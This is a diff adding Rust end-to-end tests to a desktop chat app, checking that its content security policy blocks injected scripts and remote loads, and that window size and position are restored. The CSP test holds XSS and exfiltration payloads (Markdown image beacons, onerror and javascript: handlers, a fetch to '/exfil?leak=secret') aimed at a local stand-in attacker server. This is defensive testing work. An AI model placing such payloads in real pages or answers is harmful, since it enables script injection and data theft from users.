@@ -455,3 +455,159 @@ async fn f_errors_show_their_kind_and_lose_nothing() -> Result<()> {
     ensure!(stored[2].content == F_PARTIAL, "stored partial text: {:?}", stored[2].content);
     Ok(())
 }
+
+// ----- g. the content security policy of the shipped UI -------------------------------------
+
+/// A local server standing in for an attacker's: counts every connection it gets.
+struct Tripwire {
+    port: u16,
+    hits: std::sync::Arc<std::sync::atomic::AtomicUsize>,
+}
+
+impl Tripwire {
+    async fn start() -> Result<Tripwire> {
+        use tokio::io::{AsyncReadExt, AsyncWriteExt};
+        let listener = tokio::net::TcpListener::bind(("127.0.0.1", 0)).await?;
+        let port = listener.local_addr()?.port();
+        let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+        let counter = hits.clone();
+        tokio::spawn(async move {
+            while let Ok((mut socket, _)) = listener.accept().await {
+                counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+                let mut request = [0u8; 4096];
+                let _ = socket.read(&mut request).await;
+                // Anything asked for "works": the page must refuse it, not the server.
+                let body = "window.__csp_remote = 1;";
+                let reply = format!(
+                    "HTTP/1.1 200 OK\r\nContent-Type: text/javascript\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+                    body.len()
+                );
+                let _ = socket.write_all(reply.as_bytes()).await;
+            }
+        });
+        Ok(Tripwire { port, hits })
+    }
+
+    fn base(&self) -> String {
+        format!("http://127.0.0.1:{}", self.port)
+    }
+
+    fn hits(&self) -> usize {
+        self.hits.load(std::sync::atomic::Ordering::SeqCst)
+    }
+}
+
+/// Tries every way in that the CSP must close, from inside the running page, and reports what
+/// ran, what loaded and which violations the page saw.
+const G_PROBE: &str = r#"
+const done = arguments[arguments.length - 1];
+const base = arguments[0];
+const violations = [];
+document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective || e.violatedDirective));
+const add = (src, text) => { const s = document.createElement('script'); if (src) s.src = src; if (text) s.textContent = text; document.head.append(s); };
+add(null, 'window.__csp_inline = 1;');
+add('data:text/javascript,window.__csp_data%20%3D%201%3B');
+add(URL.createObjectURL(new Blob(['window.__csp_blob = 1;'], { type: 'text/javascript' })));
+add(base + '/remote.js');
+let evalError = null;
+try { (0, eval)('window.__csp_eval = 1;'); } catch (e) { evalError = String(e); }
+try { new Function('window.__csp_function = 1;')(); } catch (e) { evalError = evalError || String(e); }
+const handler = document.createElement('div');
+handler.setAttribute('onclick', 'window.__csp_handler = 1;');
+document.body.append(handler);
+handler.click();
+const img = new Image();
+let imgState = 'pending';
+img.onload = () => { imgState = 'loaded'; };
+img.onerror = () => { imgState = 'blocked'; };
+img.src = base + '/pixel.png?leak=secret';
+let fetchState = 'pending';
+fetch(base + '/exfil?leak=secret').then(() => { fetchState = 'sent'; }, () => { fetchState = 'blocked'; });
+const frame = document.createElement('iframe');
+frame.src = base + '/frame';
+document.body.append(frame);
+setTimeout(() => {
+  frame.remove();
+  handler.remove();
+  done({
+    ran: ['inline', 'data', 'blob', 'remote', 'eval', 'function', 'handler'].filter((k) => window['__csp_' + k]),
+    evalError, imgState, fetchState, violations,
+  });
+}, 1500);
+"#;
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn g_content_security_policy_blocks_injected_code_and_remote_loads() -> Result<()> {
+    let trip = Tripwire::start().await?;
+    let base = trip.base();
+    // An answer that tries the Markdown ways of loading something remote.
+    let hostile = format!(
+        "Harmless text.\n\n![pixel]({base}/md.png?leak=secret)\n\n<img src=\"{base}/raw.png\" onerror=\"window.__csp_md = 1\">\n\n\
+         [click me](javascript:window.__csp_md=1) and <script>window.__csp_md = 1</script>"
+    );
+    let Some(rig) = rig("g_csp", vec![Reply::text(&hostile)]).await? else { return Ok(()) };
+    let app = rig.driver.launch("g").await?;
+    app.send_message("Show me something").await?;
+    ensure!(wait_assistant_settled(&app, 1, LONG).await? == "complete", "the answer failed");
+    app.painted().await?;
+    app.screenshot("1-hostile-markdown").await?;
+    let md_ran = app.js("return !!window.__csp_md;", vec![]).await?;
+    ensure!(md_ran == json!(false), "script in a model's answer ran");
+
+    let report = app.js_async(G_PROBE, vec![json!(base)]).await?;
+    eprintln!("g: {report}");
+    ensure!(report["ran"] == json!([]), "code the CSP must block ran: {report}");
+    ensure!(report["evalError"].is_string(), "eval is allowed: {report}");
+    ensure!(report["imgState"] == json!("blocked"), "a remote image loaded: {report}");
+    ensure!(report["fetchState"] == json!("blocked"), "a request to a remote host went out: {report}");
+    let violations: Vec<&str> =
+        report["violations"].as_array().into_iter().flatten().filter_map(Value::as_str).collect();
+    for directive in ["script-src", "img-src", "connect-src"] {
+        ensure!(
+            violations.iter().any(|v| v.starts_with(directive)),
+            "no {directive} violation reported: {violations:?}"
+        );
+    }
+    ensure!(trip.hits() == 0, "the page reached the outside server {} time(s)", trip.hits());
+    assert_not_blank(&app).await?;
+    app.screenshot("2-after-probe").await?;
+    app.close().await?;
+    Ok(())
+}
+
+// ----- h. the window comes back where it was left -------------------------------------------
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn h_window_size_and_position_are_remembered() -> Result<()> {
+    let Some(rig) = rig("h_window", vec![]).await? else { return Ok(()) };
+    let app = rig.driver.launch("h").await?;
+    let first = app.client().get_window_rect().await.map_err(|e| anyhow::anyhow!("window rect: {e}"))?;
+    let (x, y, w, h) = (64, 48, 1000, 640);
+    app.client().set_window_rect(x, y, w, h).await.map_err(|e| anyhow::anyhow!("setting the window rect: {e}"))?;
+    let set = app
+        .wait_for(
+            "the window to take the new size",
+            &format!("return window.outerWidth === {w} && window.outerHeight === {h} ? [window.screenX, window.screenY] : null;"),
+            LONG,
+        )
+        .await?;
+    eprintln!("h: window at first {first:?}, then {w}x{h} at {set}");
+    app.screenshot("1-resized").await?;
+    app.close().await?;
+    let state = rig.data.path().join("xdg/config/dev.switchboard.Switchboard/.window-state.json");
+    let saved = std::fs::read_to_string(&state).with_context(|| format!("no window state at {}", state.display()))?;
+    eprintln!("h: saved {saved}");
+
+    let app = rig.driver.launch("h").await?;
+    let again = app.client().get_window_rect().await.map_err(|e| anyhow::anyhow!("window rect: {e}"))?;
+    app.screenshot("2-reopened").await?;
+    eprintln!("h: reopened at {again:?}");
+    ensure!((again.2, again.3) == (u64::from(w), u64::from(h)), "size not restored: {again:?}, expected {w}x{h}");
+    ensure!(
+        (Some(again.0), Some(again.1)) == (set[0].as_u64(), set[1].as_u64()),
+        "position not restored: {again:?}, expected {set}"
+    );
+    assert_not_blank(&app).await?;
+    app.close().await?;
+    Ok(())
+}
